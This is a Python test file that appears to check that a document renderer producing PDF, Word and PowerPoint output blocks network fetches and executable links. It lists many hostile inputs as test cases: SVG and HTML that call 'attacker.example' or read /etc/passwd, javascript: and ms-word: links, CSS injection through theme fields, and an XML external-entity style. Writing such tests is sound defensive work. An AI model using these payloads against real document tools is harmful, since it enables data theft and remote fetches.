"""Projects that would reach for the network, or lead their readers astray."""

from __future__ import annotations

from base64 import b64encode
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.attacks.arena import Attack, Files, section, settings
from tests.attacks.judge import cases, judge

HOST = "attacker.example"
ALL = "pdf,docx,pptx"
IMAGE = "![A curve](images/e.svg)\n"
REFERENCE = "references.yml"
OTHER = '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
HIDDEN = b64encode(OTHER.encode()).decode()


def svg(inside: str, attributes: str = "") -> Files:
    """A project whose drawing holds something besides a rectangle."""
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    drawn = f'<svg {names} width="20" height="20" {attributes}><rect width="9" height="9"/>{inside}</svg>'
    return {**section(IMAGE), "images/e.svg": drawn}


def work(fields: str) -> Files:
    """A project that cites one work."""
    entry = f"- {{id: a, type: webpage, title: A Page, author: [{{family: Ames}}], {fields}}}\n"
    return {**section("Text [@a].\n\n::: {#refs}\n:::\n"), REFERENCE: entry}


def theme(brand: str, more: Files | None = None) -> Files:
    """A project with a theme of its own."""
    return {**settings("theme: house\n"), "house/_brand.yml": brand, **(more or {})}


ATTACKS = [
    Attack("image from the web", section(f"![A curve](https://{HOST}/x.png)\n"), "image-missing"),
    Attack("image without a scheme", section(f"![A curve](//{HOST}/x.png)\n"), "image-missing path-outside"),
    Attack("drawing that fetches an image", svg(f'<image href="http://{HOST}/x.png" width="9" height="9"/>'), "image-unreadable"),
    Attack("drawing that fetches an image, older way", svg(f'<image xlink:href="https://{HOST}/x.png" width="9" height="9"/>'), "image-unreadable"),
    Attack("drawing that reads a file", svg('<image href="file:///etc/passwd" width="9" height="9"/>'), "image-unreadable"),
    Attack("drawing that shows its neighbour", svg('<image href="../outside/secret.svg" width="9" height="9"/>'), "image-unreadable"),
    Attack("drawing that uses another file", svg(f'<use href="http://{HOST}/x.svg#a"/>'), "image-unreadable"),
    Attack("drawing with a foreign style", svg(f"<style>@import url(http://{HOST}/x.css);</style>"), "image-unreadable"),
    Attack("drawing with a foreign font", svg(f"<style>@font-face {{font-family: x; src: url('http://{HOST}/x.woff')}}</style>"), "image-unreadable"),
    Attack("drawing filled from elsewhere", svg(f'<rect width="4" height="4" fill="url(http://{HOST}/x.svg#p)"/>'), "image-unreadable"),
    Attack("drawing whose style begins with a comment", svg(f"<style><!-- a -->@import url(http://{HOST}/x.css);</style>"), "image-unreadable"),
    Attack("drawing whose style holds an instruction", svg(f"<style>a{{}}<?a b?>@import url(http://{HOST}/x.css);</style>"), "image-unreadable"),
    Attack("drawing whose style is data", svg(f"<style><![CDATA[a{{}}]]><!-- a --><![CDATA[@import 'http://{HOST}/x.css';]]></style>"), "image-unreadable"),
    Attack("drawing whose style holds an element", svg(f"<style>a{{}}<g/>@import url(http://{HOST}/x.css);</style>"), "image-unreadable"),
    Attack("drawing that imports by an escape", svg("<style>@\\69mport 'x.css';</style>"), "image-unreadable"),
    Attack("drawing that imports from its project", svg("<style>@import url(project:///data/x.csv);</style>"), "image-unreadable"),
    Attack("drawing filled from elsewhere by an escape", svg(f'<rect width="4" height="4" fill="u\\72l(http://{HOST}/x.svg#p)"/>'), "image-unreadable"),
    Attack("drawing filled from elsewhere by an escape in its style", svg(f"<style>rect {{fill: url(\\68ttp://{HOST}/x.svg#p)}}</style>"), "image-unreadable"),
    Attack("drawing with a font of this machine", svg("<style>@font-face {font-family: x; src: local('Secret')}</style>"), "image-unreadable"),
    Attack("drawing that chooses an image", svg(f"<rect width='4' height='4' style='background: image-set(\"http://{HOST}/x.png\" 1x)'/>"), "image-unreadable"),
    Attack("drawing with an address of elsewhere", svg('<image href="#a" width="9" height="9"/>', f'xml:base="http://{HOST}/x.svg"'), "image-unreadable"),
    Attack("drawing with an image of HTML", svg(f'<img xmlns="http://www.w3.org/1999/xhtml" src="http://{HOST}/x.png"/>'), "image-unreadable"),
    Attack("drawing whose address moves", svg(f'<image width="9" height="9"><set attributeName="href" to="http://{HOST}/x.png"/></image>'), "image-unreadable"),
    Attack("drawing with a link that runs, in two lines", svg('<a href="java&#10;script:alert(1)"><text y="9">x</text></a>'), "image-unreadable"),
    Attack("drawing with a link that opens Office", svg(f'<a href="ms-word:ofe|u|http://{HOST}/x.docx"><text y="9">x</text></a>'), "image-unreadable"),
    Attack("drawing with a link to a share", svg(r'<a href="\\attacker.example\share"><text y="9">x</text></a>'), "image-unreadable", to="docx,pptx"),
    Attack("drawing with a link without a scheme", svg(f'<a href="//{HOST}/x"><text y="9">x</text></a>'), "image-unreadable", to="docx,pptx"),
    Attack("drawing whose comment is kept from readers", svg("<!-- --><?a seen-by-nobody?><!-- seen-by-nobody -->"), "", to="docx,pptx", hides=("seen-by-nobody",)),
    Attack("drawing that hides a drawing in pixels", svg(f'<image xlink:href="data:image/png;base64,{HIDDEN}" width="9" height="9"/>'), "image-unreadable", to="docx,pptx"),
    Attack("drawing that hides a drawing in pixels, letter by letter", svg(f'<image href=" data:image/jpeg,{quote(OTHER)}" width="9" height="9"/>'), "image-unreadable", to="docx,pptx"),
    Attack("drawing that hides a drawing in pixels, in lines", svg(f'<image href="DATA:image/gif;a=b; BASE64,%0A {HIDDEN[:40]}&#10;{HIDDEN[40:]}" width="9" height="9"/>'), "image-unreadable", to="docx,pptx"),
    Attack("drawing that hides a drawing in its style", svg(f"<style>rect {{mask: u\\72l('data:image/png;base64,{HIDDEN}')}}</style>"), "image-unreadable", to="docx,pptx"),
    Attack("drawing that hides a drawing in a filling", svg(f'<rect width="4" height="4" fill="url(data:image/png;base64,{HIDDEN})"/>'), "image-unreadable", to="docx,pptx"),
    Attack("drawing that hides a drawing behind the sign of a GIF", svg(f'<image href="data:image/gif,GIF89a{quote(OTHER)}" width="9" height="9"/>'), "image-unreadable", to="docx,pptx"),
    Attack("drawing with a style sheet before it", {**section(IMAGE), "images/e.svg": f'<?xml-stylesheet href="http://{HOST}/x.css"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'}, "image-unreadable"),
    Attack("drawing with a program", svg("<script>alert(1)</script>"), "image-unreadable"),
    Attack("drawing with a handler", svg("", 'onload="alert(1)"'), "image-unreadable"),
    Attack("drawing with a page in it", svg('<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="file:///etc/passwd"/></body></foreignObject>'), "image-unreadable"),
    Attack("drawing with a link that runs", svg('<a href="javascript:alert(1)"><text y="9">x</text></a>'), "image-unreadable"),
    Attack("HTML that fetches", section(f'<img src="http://{HOST}/x.png"> <link rel="stylesheet" href="http://{HOST}/x.css">\n'), "", to=ALL, shows=("<img",)),
    Attack("HTML that runs", section("a <script>alert(1)</script> b\n\n<iframe src='file:///etc/passwd'></iframe>\n"), "", to=ALL, shows=("<script>alert(1)</script>",), hides=("root:x:0",)),
    Attack("link that runs", section("[here](javascript:alert(1))\n"), "", to=ALL, hides=('="javascript:', "(javascript:alert\\(1\\))")),
    Attack("link that runs, spelt oddly", section("[here](JaVaScRiPt&#58;alert(1)) [there](java&#10;script:alert(1))\n"), "", to=ALL, hides=('="javascript:',)),
    Attack("link to a file", section("[here](file:///etc/passwd) [there](smb://10.0.0.1/x) [and](\\\\\\\\10.0.0.1\\\\x)\n"), "", to=ALL, hides=('="file:', '="smb:', "URI (file:")),
    Attack("link that is data", section("[here](data:text/html;base64,PHNjcmlwdD4=)\n"), "", to=ALL, hides=('="data:',)),
    Attack("link that opens Office", section("[here](ms-word:ofe|u|http://attacker.example/x.docx)\n"), "", to=ALL, hides=('="ms-word:',)),
    Attack("picture whose link runs", section("[![A curve](images/x.svg)](ms-word:ofe|u|x)\n\n[![A curve](images/x.svg)](smb://10.0.0.1/x)\n"), "", to=ALL, hides=('="ms-word:', '="smb:', "URI (smb:")),
    Attack("contact whose address runs", settings("contact: {name: A, url: 'javascript:alert(1)'}\n"), "value-invalid"),
    Attack("contact whose address reads", settings("contact: {name: A, url: 'file:///etc/passwd'}\n"), "value-invalid"),
    Attack("contact whose mail carries headers", settings('contact: {name: A, email: "a@b.org?bcc=x@y.org"}\n'), "value-invalid"),
    Attack("work whose address runs", work("URL: 'javascript:alert(1)'"), "reference-invalid"),
    Attack("work whose address reads", work("URL: 'file:///etc/passwd'"), "reference-invalid"),
    Attack("work whose DOI leads elsewhere", work("DOI: 'javascript:alert(1)'"), "", to=ALL, hides=('="javascript:', "URI (javascript:")),
    Attack("logo from the web", theme(f"logo: https://{HOST}/x.png\n"), ""),
    Attack("fonts from the web", theme("typography: {fonts: [{family: Roboto, source: google}], base: Roboto}\n"), ""),
    Attack("font that is an address", theme(f"typography: {{fonts: [{{family: X, source: file, files: ['http://{HOST}/x.ttf']}}], base: X}}\n"), ""),
    Attack("typeface whose name is a style", theme("""typography: {base: "x'; } * { background: url(http://attacker.example/x) } a { b: '"}\n"""), "value-invalid", to="pdf", hides=(HOST,)),
    Attack("colour that is a style", theme("color: {primary: 'red; background: url(http://attacker.example/x)'}\n"), "colour-unknown"),
    Attack("fixed word that is HTML", settings("words: {contents: '<img src=http://attacker.example/x>'}\n"), "", to="pdf", hides=("URI (http://attacker",)),
    Attack("title that is HTML", settings("subtitle: '<script>alert(1)</script>'\n"), "", to=ALL, shows=("<script>alert(1)</script>",)),
    Attack("title that is a field of Word", settings("subtitle: 'INCLUDEPICTURE \"http://attacker.example/x\"'\n"), "", to="docx", hides=("<w:instrText xml:space=\"preserve\">INCLUDEPICTURE",)),
    Attack("citation style with entities from the web", {**work("URL: 'https://a.org'"), **settings("csl: x.csl\n"), "x.csl": f'<?xml version="1.0"?><!DOCTYPE style [<!ENTITY x SYSTEM "http://{HOST}/x">]><style xmlns="http://purl.org/net/xbiblio/csl" version="1.0" class="in-text">&x;</style>'}, "citation-style"),
]  # fmt: skip


@pytest.mark.parametrize("attack", cases(ATTACKS, 6), ids=str)
def test_no_network_is_reached_and_no_link_runs(attack: Attack, tmp_path: Path) -> None:
    judge(attack, tmp_path)
